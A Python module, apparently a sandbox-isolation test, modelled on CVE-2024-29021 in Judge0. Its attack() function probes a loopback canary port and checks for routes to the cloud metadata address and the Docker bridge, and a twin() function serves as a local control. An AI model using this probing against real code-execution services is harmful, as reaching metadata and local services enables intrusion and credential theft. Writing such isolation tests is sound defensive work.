"""Connect to what listens on the machine.

Technique: CVE-2024-29021 (Judge0): a program that shares the machine's network reaches its database, the server itself, and the cloud's metadata,
    from an address that is trusted. By 127.0.0.1 and every other name of the machine; whether there is a way to anywhere else is
    asked of a datagram socket, which sends nothing when it is connected.
Success: the canary on the machine's loopback answers, or there is a way outside.
Stopped by: network_namespace
"""
import socket


def attack():
    port = canary["tcp_port"]
    won = []
    for host in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::ffff:127.0.0.1", "localhost", canary["hostname"]):
        try:
            with socket.create_connection((host, port), timeout=0.5) as client:
                client.settimeout(0.5)
                won.append(f"{host}: {client.recv(100)}")
        except OSError:
            pass
    for family, far in ((2, "169.254.169.254"), (2, "172.17.0.1"), (2, "192.0.2.1"), (10, "2001:db8::1"), (10, "fe80::1%1")):
        with socket.socket(family, socket.SOCK_DGRAM) as client:
            if answer(client.connect, (far, 53)) is None and client.getsockname()[0] not in ("127.0.0.1", "::1"):
                won.append(f"a way to {far} from {client.getsockname()[0]}")
    return won and f"{won}"


def twin():
    """A service of the execution's own, on the port the program likes, even one that the machine uses."""
    import http.server
    import threading
    import urllib.request

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"hello")

        def log_message(self, *_):
            pass

    with http.server.HTTPServer(("127.0.0.1", 8000), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        with urllib.request.urlopen("http://127.0.0.1:8000/", timeout=5) as answered:
            assert answered.read() == b"hello"
        server.shutdown()
